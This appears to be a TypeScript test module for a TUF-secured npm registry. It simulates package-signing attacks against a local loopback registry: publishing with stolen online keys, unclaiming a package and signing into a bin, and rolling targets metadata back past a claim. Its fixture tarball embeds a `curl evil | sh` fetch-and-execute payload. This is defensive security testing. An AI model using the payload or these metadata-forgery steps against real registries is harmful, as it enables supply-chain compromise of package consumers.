import { TargetFile, UNCLAIM_RECORDS_FIELD, parseReleaseIndex, releaseIndexPath, releaseIndexTarget, type Snapshot, type Targets } from '@tufpm/models';
import { UNCLAIMED_ROLE } from '@tufpm/repo';
import { addPackageVersion, buildPackageTarball, readStoredPackument, targetPathFor } from '@tufpm/registry';
import type { NpmWorld } from './npm-world.js';
import { tamperPackument } from './attacks-release-lists.js';
import { forgeSnapshotAndTimestamp, listedVersion, readRole } from './attacks-metadata.js';

// Attacks on WHO signs a package ("publishers sign offline", DESIGN.md section 2), played against an
// NpmWorld so that real Yarn and real tufpm-npm meet them over the loopback registry.

const evil = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

/**
 * Registry compromise: with every online key (snapshot, timestamp, unclaimed bins) the attacker signs a new
 * version of a CLAIMED package into the unclaimed bin its path hashes to, re-signs snapshot and timestamp
 * and serves the tarball. The package's own role is listed before the bins and is terminating, so a client
 * never looks in the bin: the version is signed by nobody it trusts for that package.
 */
export async function publishClaimedWithOnlineKeys(world: NpmWorld, name: string, version: string): Promise<void> {
  const tarball = evil(name, version);
  const path = targetPathFor(name, version);
  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
  await world.repo.transaction(async (repo) => {
    repo.addTarget(bin, TargetFile.fromData(path, tarball));
    await world.repo.signRole(bin);
    await world.repo.resignSnapshotAndTimestamp();
  });
  await addPackageVersion(world.registryDir, tarball, { durable: false });
}

/**
 * Downgrade from maintainer to registry signing: the registry (an insider holding the offline targets key,
 * or an attacker who took it) drops the package's claim in a new, validly signed `targets`, then signs a
 * new version into the unclaimed bin with the online key. A fresh TUF client accepts that version; only the
 * project's pins remember that the package was signed by its maintainers.
 *
 * `forgeUnclaimRecords` (ADR 0026): the attacker also writes an unclaim record for the package into the
 * roles its online keys sign (the bin, the release list's bin, `unclaimed`), where no client may read one.
 */
export async function unclaimAndPublishInBin(world: NpmWorld, name: string, version: string, options: { forgeUnclaimRecords?: boolean } = {}): Promise<void> {
  const tarball = evil(name, version);
  const path = targetPathFor(name, version);
  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
  const listBin = world.repo.unclaimedBins().getRoleForTarget(releaseIndexPath(name));
  const signedOnline = new Set([bin, listBin, ...(options.forgeUnclaimRecords === true ? [UNCLAIMED_ROLE] : [])]);
  await world.repo.transaction(async (repo) => {
    // The snapshot keeps listing the dropped role (TUF 5.5.5: a client refuses a snapshot that drops one),
    // at its last version: the attacker needs a state every client accepts.
    // (Merkle profile: the in-memory snapshot is an epoch stub and the tree lists the role; once removed
    // below, the tree tombstones it whatever the stub says.)
    const listed = repo.edit<Snapshot>('snapshot').meta.get(`${name}.json`);
    if (listed === undefined && repo.merkle?.tree.get(name) === undefined) throw new Error(`the snapshot does not list ${name}.json`);
    // The attacker signs a release list into the bins as well (ADR 0013): the package's versions plus the new one.
    const role = repo.targetsRole(name).signed;
    const claimed = parseReleaseIndex(role.targets.get(releaseIndexPath(name))?.custom);
    const versions = [...(claimed.kind === 'signed' ? claimed.value.versions : []), version];
    const record = { [name]: { role_version: role.version, keyids: [...(repo.targets.signed.delegations?.getRole(name)?.keyids ?? [])], threshold: 1, unclaimed: '2026-12-06T00:00:00Z' } };
    repo.removeDelegation('targets', name);
    await world.repo.signRole('targets');
    if (options.forgeUnclaimRecords === true) for (const forged of signedOnline) repo.edit<Targets>(forged).unrecognized[UNCLAIM_RECORDS_FIELD] = record;
    repo.addTarget(listBin, releaseIndexTarget(name, { versions, distTags: { latest: version } }));
    repo.addTarget(bin, TargetFile.fromData(path, tarball));
    for (const online of signedOnline) await world.repo.signRole(online);
    repo.updateSnapshot();
    if (listed !== undefined) repo.edit<Snapshot>('snapshot').meta.set(`${name}.json`, listed);
    await world.repo.signRole('snapshot');
    repo.updateTimestamp();
    await world.repo.signRole('timestamp');
  });
  await addPackageVersion(world.registryDir, tarball, { durable: false });
}

/**
 * Rollback past a claim (every online key, no offline key): the attacker signs a forged `name@version` into
 * the unclaimed bin its path hashes to, then serves a new snapshot that lists the newest top-level
 * `targets` from before `name` was claimed (validly signed by the offline key back then, and unexpired: 365
 * days by default) and a timestamp over it. A client with no trusted state newer than that targets follows
 * the old delegations into the bin and takes the forged release. Returns a function that serves the
 * genuine state again (new snapshot and timestamp versions above the forged ones).
 */
export async function rollbackTargetsPastClaimInWorld(world: NpmWorld, name: string, version: string): Promise<{ targetsVersion: number; restore: () => Promise<void> }> {
  let targetsVersion = await listedVersion(world.metadataDir, 'targets');
  for (; targetsVersion >= 1; targetsVersion--) {
    const { md } = await readRole(world.metadataDir, 'targets', targetsVersion);
    if (!(md.signed.delegations?.roles ?? []).some((r) => r.name === name)) break;
  }
  if (targetsVersion < 1) throw new Error(`every targets version claims ${name}`);
  const tarball = evil(name, version);
  const path = targetPathFor(name, version);
  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
  // With the online key the attacker also signs the package's release list into the bins (ADR 0013).
  const genuine = await readStoredPackument(world.registryDir, name);
  const published = Object.keys(genuine?.versions ?? {});
  const listBin = world.repo.unclaimedBins().getRoleForTarget(releaseIndexPath(name));
  await world.repo.transaction(async (repo) => {
    repo.addTarget(bin, TargetFile.fromData(path, tarball));
    repo.addTarget(listBin, releaseIndexTarget(name, { versions: [...published, version], distTags: { latest: version } }));
    await world.repo.signRole(bin);
    if (listBin !== bin) await world.repo.signRole(listBin);
    await world.repo.resignSnapshotAndTimestamp();
  });
  const genuineTimestamp = await world.readMetadata('timestamp.json');
  const [snapshot] = await world.repo.signersFor('snapshot');
  const [timestamp] = await world.repo.signersFor('timestamp');
  await forgeSnapshotAndTimestamp(world.metadataDir, new Map([['targets', targetsVersion]]), { snapshot: snapshot!, timestamp: timestamp! });
  await addPackageVersion(world.registryDir, tarball, { durable: false });
  return {
    targetsVersion,
    restore: async () => {
      // The repository reloads from disk when timestamp.json is not its own: put its own back first. Then
      // sign twice: its next versions equal the forged ones, the second pair is above them.
      await world.writeMetadata('timestamp.json', genuineTimestamp);
      for (let i = 0; i < 2; i++) await world.repo.transaction(() => world.repo.resignSnapshotAndTimestamp());
      // ...and the registry serves the genuine packument again (the signed release list has no forged version).
      await tamperPackument(world, name, (p) => {
        delete p.versions[version];
        delete p.time[version];
        p['dist-tags'] = { ...(genuine?.['dist-tags'] ?? {}) };
      });
    },
  };
}
